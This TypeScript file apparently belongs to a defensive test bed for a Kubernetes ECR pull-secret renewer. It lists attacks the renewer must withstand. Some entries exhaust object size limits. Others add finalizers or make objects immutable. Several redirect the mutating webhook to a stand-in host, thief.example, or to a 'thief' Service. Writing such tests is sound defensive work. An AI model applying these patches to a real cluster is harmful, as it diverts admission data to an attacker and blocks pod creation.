import { PRODUCT_NAME } from '@ecr-pull-secrets/shared/names.ts';
import type { Manifest } from '@ecr-pull-secrets/testbed/playground/kube-api.ts';
import { CA_SECRET, CONFIGURATION } from '../ca.ts';
import { pathOf } from '../pull-secret.ts';
import {
  applyWebhook,
  type Attack,
  CHECKPOINT,
  fillingLabels,
  FINALIZERS,
  jsonPatch,
  LEASE,
  managedFields,
  merge,
  OWNERS,
  PLACES,
} from './attack.ts';

const fieldsOf = (name: string, entry: Manifest = {}): Manifest =>
  managedFields('admissionregistration.k8s.io/v1', name, entry);

/** With the renewer's further rights: its lease, its own Secrets, its webhook configuration. */
export const RENEWER_ATTACKS: readonly Attack[] = [
  ['adds a finalizer to the lease', merge(LEASE, { metadata: { finalizers: FINALIZERS } })],
  ['adds an owner to the lease', merge(LEASE, { metadata: { ownerReferences: OWNERS } })],
  // The CronJob's token can do it too; once is enough for what takes an API server so long.
  [
    'fills the secret up, so that it cannot be renewed',
    merge(pathOf(PLACES.served), { metadata: { labels: fillingLabels(1_300) } }),
  ],
  ['fills the lease up, so that it cannot be written', merge(LEASE, { metadata: { labels: fillingLabels(50) } })],
  // All annotations together have 256 KiB at most.
  [
    'leaves no room for the renewer’s annotations',
    merge(pathOf(PLACES.served), { metadata: { annotations: { thief: 'x'.repeat(200_000) } } }),
  ],
  ['fills it up with a holder', merge(LEASE, { spec: { holderIdentity: 'x'.repeat(1_000_000) } })],
  ['fills the CA up', merge(CA_SECRET, { data: { more: 'A'.repeat(1_000_000) } })],
  ['puts other data into the checkpoint', merge(CHECKPOINT, { data: { more: 'eA==' } })],
  ['adds a finalizer to the CA', merge(CA_SECRET, { metadata: { finalizers: FINALIZERS } })],
  ['makes the CA immutable', merge(CA_SECRET, { immutable: true })],
  ['makes the checkpoint immutable', merge(CHECKPOINT, { immutable: true })],
  [
    'has the webhook’s requests sent to a server of its own',
    jsonPatch(CONFIGURATION, {
      op: 'replace',
      path: '/webhooks/0/clientConfig',
      value: { url: 'https://thief.example/mutate' },
    }),
  ],
  [
    'has them sent to a Service of its own',
    applyWebhook({ clientConfig: { service: { name: 'thief', namespace: 'thief' } } }),
  ],
  [
    'has all objects sent',
    applyWebhook({
      rules: [{ operations: ['*'], apiGroups: ['*'], apiVersions: ['*'], resources: ['*/*'] }],
    }),
  ],
  ['has no pod created without it', applyWebhook({ failurePolicy: 'Fail' })],
  ['makes each call wait as long as possible', applyWebhook({ timeoutSeconds: 30 })],
  [
    'takes the namespace selector away',
    jsonPatch(CONFIGURATION, { op: 'replace', path: '/webhooks/0/namespaceSelector', value: {} }),
  ],
  ['takes the conditions away', jsonPatch(CONFIGURATION, { op: 'remove', path: '/webhooks/0/matchConditions' })],
  [
    'puts a second webhook behind ours',
    jsonPatch(CONFIGURATION, {
      op: 'add',
      path: '/webhooks/-',
      value: {
        name: 'second.thief.example',
        admissionReviewVersions: ['v1'],
        sideEffects: 'None',
        clientConfig: { url: 'https://thief.example' },
      },
    }),
  ],
  [
    'fills the webhook configuration up and takes caBundle away, so that the repair cannot be stored',
    jsonPatch(
      CONFIGURATION,
      { op: 'remove', path: '/webhooks/0/clientConfig/caBundle' },
      { op: 'add', path: '/metadata/managedFields', value: [fieldsOf('x'.repeat(1_400_000))] },
    ),
  ],
  [
    'fills it up with characters that JSON writes as six',
    merge(CONFIGURATION, { metadata: { managedFields: [fieldsOf('\u0001'.repeat(200_000))] } }),
  ],
  [
    'fills it up in the name of the renewer',
    merge(CONFIGURATION, {
      metadata: {
        managedFields: [fieldsOf('x'.repeat(1_000_000), { manager: PRODUCT_NAME, operation: 'Apply' })],
      },
    }),
  ],
  ['fills it up with caBundle', applyWebhook({ clientConfig: { caBundle: Buffer.alloc(900_000).toString('base64') } })],
  ['takes our webhook away', merge(CONFIGURATION, { webhooks: null })],
  ...Object.entries({
    labels: { thief: 'x' },
    annotations: { 'cert-manager.io/inject-ca-from': 'thief/thief' },
    finalizers: FINALIZERS,
    ownerReferences: OWNERS,
  }).map(
    ([field, value]): Attack => [
      `changes the ${field} of the webhook configuration`,
      merge(CONFIGURATION, { metadata: { [field]: value } }),
    ],
  ),
];
